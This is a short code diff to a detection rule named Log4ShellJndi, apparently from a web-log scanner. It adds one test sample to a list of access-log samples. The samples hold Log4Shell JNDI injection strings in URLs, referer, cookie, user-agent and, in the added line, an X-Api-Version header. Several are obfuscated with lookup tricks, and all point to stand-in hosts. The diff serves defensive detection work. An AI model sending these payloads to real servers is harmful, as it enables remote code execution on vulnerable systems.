@@ -89,6 +89,7 @@ class Log4ShellJndi(Rule):
         AccessSample(target="/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"),
         AccessSample(target="/", referer="${${lower:j}ndi:${lower:r}mi://198.51.100.9/x}"),
         AccessSample(target="/", cookie="id=${${::-j}${::-n}${::-d}${::-i}:dns://x.example/a}"),
+        AccessSample(target="/", headers=(("X-Api-Version", "${jndi:ldap://198.51.100.9/a}"),)),
         AccessSample(
             target="/", user_agent="${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"
         ),
